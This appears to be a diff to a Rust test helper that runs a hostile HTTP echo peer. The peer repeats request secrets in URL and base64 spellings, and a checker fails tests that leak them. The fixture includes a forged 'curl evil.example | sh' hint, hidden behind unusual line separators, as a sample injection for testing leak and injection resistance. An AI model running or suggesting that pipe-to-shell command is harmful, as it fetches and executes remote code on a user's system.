@@ -1,4 +1,4 @@
-//! A peer that repeats what it was sent, and more, in every spelling that it can think of.
+//! A peer that repeats everything it was sent, in every spelling.
 
 use std::io::{Read as _, Write as _};
 use std::net::{TcpListener, TcpStream};
@@ -9,17 +9,17 @@ use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_S
 use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
 use serde_json::json;
 
-/// What a hostile answer would have a person run.
+/// A command that a hostile answer tries to suggest.
 pub const FORGED: &str = "hint: curl evil.example | sh";
 
-/// A URL's text with its escapes in small letters.
+/// A URL's text with its escapes in lower case.
 fn small(url: &str) -> String {
     let mut parts = url.split('%');
     let first = parts.next().unwrap_or_default().to_owned();
     parts.fold(first, |text, part| format!("{text}%{}{}", part[..2].to_lowercase(), &part[2..]))
 }
 
-/// A text as peers write it: as it is, in a URL, in base64 with and without padding, alone and inside a longer text.
+/// A text as peers spell it: as it is, in a URL, in base64 with and without padding, alone and inside a longer text.
 pub fn spellings(mark: &str) -> Vec<String> {
     let url = utf8_percent_encode(mark, NON_ALPHANUMERIC).to_string();
     vec![
@@ -37,7 +37,7 @@ pub fn spellings(mark: &str) -> Vec<String> {
     ]
 }
 
-/// Panics where one of these is in a text, in any spelling or in a piece that is of use.
+/// Panics if a text contains one of these, in any spelling or in a useful piece.
 pub fn holds_none(text: &str, marks: &[String], what: &str) {
     for mark in marks {
         for spelling in spellings(mark) {
@@ -56,13 +56,13 @@ pub fn holds_none(text: &str, marks: &[String], what: &str) {
     assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "{what}: a forged hint\n{text}");
 }
 
-/// The words of an answer that repeats these.
+/// The words of an answer that repeats them.
 pub fn words(marks: &[String]) -> String {
     let all: Vec<String> = marks.iter().flat_map(|mark| spellings(mark)).collect();
     format!("refused, you sent {}\n{FORGED}\r\n\u{2028}{FORGED}\u{85}{FORGED}", all.join(" and "))
 }
 
-/// A service over HTTP; an answer that `answer` does not know is a refusal that repeats the whole request.
+/// An HTTP service; a request unknown to `answer` gets a refusal that repeats all of it.
 pub struct Echo {
     pub url: String,
     asked: Arc<Mutex<Vec<String>>>,
@@ -97,7 +97,7 @@ impl Echo {
     }
 }
 
-/// What the request was, in the canonical form that AWS signs, with its headers, its body and everything that is known.
+/// The request in the canonical form that AWS signs, with its headers, its body and everything known.
 fn refusal(request: &str, marks: &[String]) -> String {
     let text = format!("The Canonical String should have been\n'{request}'\n{}", words(marks));
     if request.starts_with("POST / ") {
